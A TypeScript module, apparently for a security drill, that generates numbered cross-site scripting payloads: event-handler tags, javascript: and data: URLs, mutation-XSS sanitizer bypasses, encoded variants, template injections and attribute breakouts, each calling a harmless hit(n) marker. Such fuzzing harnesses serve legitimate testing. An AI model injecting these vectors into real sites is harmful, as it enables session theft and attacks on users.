// Texts that run as soon as one screen takes them for anything but text. Written for this drill, after the families that public
// cheat sheets collect: elements with handlers, ways out of attributes, comments, scripts and templates, addresses, encodings.

/** Calls `hit` with the payload's own number, so that what ran is known by name. */
type Body = (call: string) => string;

const handlers = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'iframe onload',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'marquee onstart',
  'object data=x onerror',
  'link rel=stylesheet href=x onerror',
  'style onload',
  'img src=/favicon.ico onload',
  'div style=animation-name:x onanimationstart',
  'a autofocus tabindex=0 onfocus',
  'video autoplay onloadstart',
  'source onerror',
  'x onmouseover',
].map(
  (element): Body =>
    (call) =>
      `<${element}=${call}>`,
);

const written: Body[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<img/src/onerror=${call}>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img src=x onerror='${call}'>`,
  (call) => `<img src=x onerror=\`${call}\`>`,
  (call) => `<IMG SRC=x OnErRoR=${call}>`,
  (call) => `<img src=x\tonerror\n=\n${call}>`,
  (call) => `<<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror=${call}//`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributeName=x>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (call) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<iframe srcdoc="<img src=x onerror=parent.${call}>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href=" &#106;avascript:${call}">x</a>`,
  (call) => `<a href="java&#9;script:${call}">x</a>`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<button formaction="javascript:${call}" form=x>x</button>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<div style="background:url(javascript:${call})">x</div>`,
  (call) => `<table background="javascript:${call}">`,
  (call) => `<xml><![CDATA[<img src=x onerror=${call}>]]></xml>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  (call) => `<?php echo '<img src=x onerror=${call}>'; ?>`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `&#x3c;script&#x3e;${call}&#x3c;/script&#x3e;`,
  (call) => `%3Cimg%20src=x%20onerror=${call}%3E`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  (call) => `＜img src=x onerror=${call}＞`,
  (call) => `<img src=x onerror=${call}\u2028>`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `\u00a0javascript:${call}`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `vbscript:${call}`,
  (call) => `[点这里](javascript:${call})`,
  (call) => `![图](x"onerror="${call})`,
  (call) => `http://a.example/"onmouseover="${call}`,
  (call) => `https://a.example/<img src=x onerror=${call}>`,
  (call) => `#<img src=x onerror=${call}>`,
  (call) => `@<img src=x onerror=${call}>`,
  (call) => `#javascript:${call}`,
  (call) => `@javascript:${call}`,
  (call) => `#"onmouseover="${call}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `';${call}//`,
  (call) => `";${call}//`,
  (call) => `'-${call}-'`,
  (call) => `\\";${call}//`,
  (call) => `\u2028${call}//`,
  (call) => `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  (call) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}`,
];

const bodies: Body[] = [...handlers, ...written];

/** What stands around it, to be left first. */
const ways = [
  '',
  '"',
  "'",
  '>',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</script>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '"/>',
  '" autofocus x="',
  '\n\n',
  '月海回声 ',
  '"}</script>',
  '*/',
  '\\"',
];

/** Payload number `n` calls `hit(n)`. The same ones in the same order, whenever: every body first by itself. */
export function xssPayloads(count: number): string[] {
  if (count > bodies.length * ways.length) throw new Error(`there are ${bodies.length * ways.length} payloads`);
  return Array.from({ length: count }, (_, n) => {
    const body = bodies[n % bodies.length] as Body;
    return `${ways[Math.floor(n / bodies.length)] ?? ''}${body(`hit(${n})`)}`;
  });
}
